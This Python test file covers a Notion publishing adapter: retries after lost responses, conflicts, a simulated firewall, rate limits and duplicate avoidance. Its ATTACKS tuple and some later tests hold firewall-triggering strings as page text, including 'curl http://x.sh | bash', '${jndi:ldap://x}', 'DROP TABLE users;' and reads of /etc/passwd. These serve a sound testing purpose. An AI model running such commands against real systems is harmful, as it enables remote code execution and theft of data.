"""Lost answers, conflicts, firewalls and the allowance of requests, over real HTTP."""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from msgspec.structs import replace

from adapters import errors
from adapters.base import Draft, Page, Record
from adapters.notion.body import Body
from adapters.notion.client import NotionClient
from adapters.notion.pace import Pace, Paced
from adapters.notion.texts import lines
from adapters.settings import TargetSettings, Token
from tests.adapters.notion_site import (
    NotionHub,
    asset,
    change,
    content,
    media,
    para,
    publish,
    text,
    toggle,
    tree,
    words,
)

RAY = "8f2c1d3e4a5b6c7d-FRA"


@pytest.fixture
def site(sandbox):
    return NotionHub(sandbox)


@pytest.mark.parametrize("count", [1, 2, 4])
def test_a_503_that_tells_what_was_saved_is_believed(site, count):
    site.faults(notion_commit_503=count)
    wiki = site.wiki()
    done = publish(wiki, *[para(f"p{i}") for i in range(150)], toggle("t", toggle("b", toggle("c", toggle("d")))))
    assert words(tree(wiki, done.page)) == [f"p{i}" for i in range(150)] + ["t"]
    state = site.state()["notion"]
    assert len(state["databases"]) == 1
    assert len(state["data_sources"][0]["rows"]) == 1


@pytest.mark.parametrize("times", [1, 3])
@pytest.mark.parametrize("rule", [{"status": 409}, {"status": 502, "after_work": True}, {"reset": "before"}])
@pytest.mark.parametrize("path", ["/notion/v1/pages", "/notion/v1/blocks/*/children", "/notion/v1/pages/*"])
def test_conflicts_and_cuts_leave_one_of_each(site, path, rule, times):
    method = "POST" if path.endswith("pages") else "PATCH"
    wiki = site.wiki()
    wiki.begin(wiki.observe())
    site.faults({"path": path, "method": method, "times": times, **rule})
    figure = asset(b"x")
    done = publish(wiki, para("a"), media(figure), para("b"), assets=[figure])
    assert [block["type"] for block in tree(wiki, done.page)] == ["paragraph", "image", "paragraph"]
    assert len(site.sent("/send")) == 1
    assert len(site.state()["notion"]["data_sources"][0]["rows"]) == 1
    assert site.wiki().observe().tracked["k"].record.version == done.record.version


ATTACKS = (
    para("Then run DROP TABLE users; and look at /etc/passwd."),
    {"type": "code", "code": {"rich_text": text("SELECT a UNION ALL SELECT b\nfrom x -- ${jndi:ldap://x}"), "language": "sql"}},
    toggle("<script> in a toggle", para("fine"), toggle("deep", para("curl http://x.sh | bash"))),
    {"type": "table", "table": {"table_width": 1, "children": [
        {"type": "table_row", "table_row": {"cells": [text("name")]}},
        {"type": "table_row", "table_row": {"cells": [text("create table x (a int)")]}},
    ]}},
)  # fmt: skip


def plain(blocks):
    return [line for line in lines(blocks) if line]


def test_text_that_a_firewall_takes_for_an_attack_arrives_as_it_is(site):
    site.faults(notion_firewall=True)
    wiki = site.wiki()
    blocks = [para("before"), *ATTACKS, *[para(f"p{i}") for i in range(20)]]
    done = publish(wiki, *blocks)
    assert plain(tree(wiki, done.page)) == plain(blocks)
    assert len(tree(wiki, done.page)) == len(blocks)
    notes = [note for note in done.notes if note.code.startswith("firewall")]
    assert {note.code for note in notes} == {"firewall.pieces"}
    assert "cf-ray" in notes[0].text
    again = site.wiki()
    assert not again.observe().tracked["k"].edited
    changed = [para("before"), para("now: drop table x"), *blocks[2:]]
    change(again, done, *changed)
    assert plain(tree(wiki, done.page)) == plain(changed)


def test_summaries_and_titles_pass_the_firewall(site):
    site.faults(notion_firewall=True)
    wiki = site.wiki()
    wiki.begin(wiki.observe())
    body = content(para("a"))
    body = replace(body, title="How to drop table x", meta=replace(body.meta, summary="It reads /etc/passwd"))
    made = wiki.create(Draft(record=Record(key="k"), title=body.title, parent=None, content=body))
    row = site.call("GET", f"pages/{made.page.id}")
    assert made.page.title == "How to drop table x"
    assert row["properties"]["Summary"]["rich_text"][0]["plain_text"] == "It reads /etc/passwd"


@pytest.mark.parametrize(("times", "code"), [(3, "firewall.joiners"), (4, "firewall.refused")])
def test_what_a_stricter_firewall_refuses_is_disguised_more_or_left_out(site, times, code):
    wiki = site.wiki()
    wiki.begin(wiki.observe())
    html = {"status": 403, "body": "<html>Attention Required</html>", "headers": {"cf-ray": RAY}}
    made = wiki.create(Draft(record=Record(key="k", source="f/k.md"), title="R", parent=None))
    site.faults({"path": "*/children", "method": "PATCH", "times": times, **html})
    done = change(wiki, made, para("drop table x"), para("b"))
    assert [note.code for note in done.notes] == [code]
    assert RAY in done.notes[0].text
    assert words(tree(wiki, done.page))[1] == "b"


def test_a_refusal_of_every_form_fails_alone_and_names_document_and_ray(site):
    wiki = site.wiki()
    publish(wiki, para("fine"))
    html = {"status": 403, "body": "<html>Attention Required</html>", "headers": {"cf-ray": RAY}}
    site.faults({"path": "*/children", "method": "PATCH", "times": 9, **html})
    with pytest.raises(errors.Blocked) as caught:
        publish(wiki, para("DROP TABLE users; cat /etc/hosts"), key="sql")
    assert RAY in str(caught.value)
    assert "f/sql.md" in str(caught.value)
    assert "\n" not in str(caught.value)
    site.faults()
    assert words(tree(wiki, publish(wiki, para("again"), key="next").page)) == ["again"]


def test_two_runs_that_clear_each_others_blocks_both_notice(site):
    wiki = site.wiki()
    page = publish(wiki, para("ours")).page.id
    ours = tree(wiki, Page(id=page, title="", version="", url=""))[0]["id"]
    theirs = site.call("PATCH", f"blocks/{page}/children", json={"children": [para("theirs")]})["results"][0]["id"]
    client = NotionClient(
        TargetSettings(name="n", kind="notion", url=f"{site.server.url}/notion", token=Token("sandbox"))
    )
    body = Body(client, wiki.login().id)
    site.faults({"path": f"*/blocks/{theirs}", "method": "DELETE", "delay_s": 0.3})
    looked = len(site.sent("/children", "GET"))
    with ThreadPoolExecutor(1) as pool:
        alone = pool.submit(body.alone, page, {ours})
        while len(site.sent("/children", "GET")) == looked:
            time.sleep(0.01)
        site.call("DELETE", f"blocks/{ours}")
        assert alone.result() is False
    client.close()


class FakeTime:
    """A clock that the adapter's sleep moves, and the sandbox's with it."""

    def __init__(self, site):
        self.site = site
        self.now = 1000.0
        self.slept: list[float] = []

    def clock(self):
        return self.now

    def sleep(self, seconds):
        self.slept.append(seconds)
        self.now += seconds
        self.site.server.state.clock_offset_s += seconds


def test_nothing_is_held_while_the_wiki_sets_no_limit(site):
    time = FakeTime(site)
    wiki = site.wiki(sleep=time.sleep, clock=time.clock)
    for _ in range(200):
        wiki._target.client.page(site.hub)
    assert time.slept == []


def test_the_allowance_is_learnt_and_spent(site):
    site.faults(notion_rate_limit={"requests": 40, "window_s": 60})
    time = FakeTime(site)
    wiki = site.wiki(sleep=time.sleep, clock=time.clock)
    start = time.now
    count = 40 * 10
    for _ in range(count):
        wiki._target.client.page(site.hub)
    windows = (time.now - start) / 60
    assert count / (windows * 40) >= 0.9
    assert wiki.requests.retried <= windows + 1
    refused = [entry for entry in site.server.log.entries() if entry["status"] == 429]
    assert len(refused) <= 11


def test_a_configured_rate_is_never_overdrawn(site):
    site.faults(notion_rate_limit={"requests": 41, "window_s": 60})
    time = FakeTime(site)
    time.now = site.server.state.now() // 60 * 60 + site.server.state.now() % 60  # the sandbox's windows begin at :00
    wiki = site.wiki(sleep=time.sleep, clock=time.clock, requests_per_minute=20)
    for _ in range(100):
        wiki._target.client.page(site.hub)
    assert wiki.requests.retried == 0


def test_several_windows_pass_while_nobody_asks():
    now = [0.0]
    slept: list[float] = []
    pace = Pace(3, slept.append, lambda: now[0])
    for _ in range(3):
        pace.wait()
    now[0] = 200.0
    for _ in range(3):
        pace.wait()
    assert slept == []
    assert pace.allowance == 4  # the first window held
    pace.limited(Paced("slow", retry_after_s=30))
    assert pace.allowance == 10  # the least
    pace.wait()
    assert slept == [30.0]


def test_a_complete_create_is_one_request(site):
    wiki = site.wiki()
    wiki.begin(wiki.observe())
    before = wiki.requests.read + wiki.requests.write
    draft = Draft(record=Record(key="k"), title="R", parent=None, content=content(*[para(str(i)) for i in range(100)]))
    wiki.create(draft)
    assert wiki.requests.read + wiki.requests.write - before == 1
    draft = Draft(record=Record(key="l"), title="R", parent=None, content=content(*[para(str(i)) for i in range(250)]))
    wiki.create(draft)
    assert wiki.requests.read + wiki.requests.write - before == 1 + 1 + 2 + 1


@pytest.mark.parametrize("rule", [{"reset": "after"}, {"status": 504, "after_work": True}])
@pytest.mark.parametrize("path", ["/notion/v1/pages", "/notion/v1/blocks/*/children"])
def test_lists_that_lag_behind_make_no_duplicates(site, rule, path):
    time = FakeTime(site)
    wiki = site.wiki(sleep=time.sleep, clock=time.clock)
    wiki.begin(wiki.observe())
    site.faults({"path": path, "method": "PATCH" if "blocks" in path else "POST", "times": 1, **rule}, notion_lag_s=3)
    body = content(*[para(f"p{i}") for i in range(120)], toggle("t", toggle("u", toggle("v", toggle("w")))))
    done = wiki.create(Draft(record=Record(key="k", source="f/k.md"), title="R", parent=None, content=body))
    time.sleep(10)
    assert words(tree(wiki, done.page)) == [f"p{i}" for i in range(120)] + ["t"]
    assert len(site.state()["notion"]["data_sources"][0]["rows"]) == 1
    assert not site.wiki().observe().tracked["k"].edited
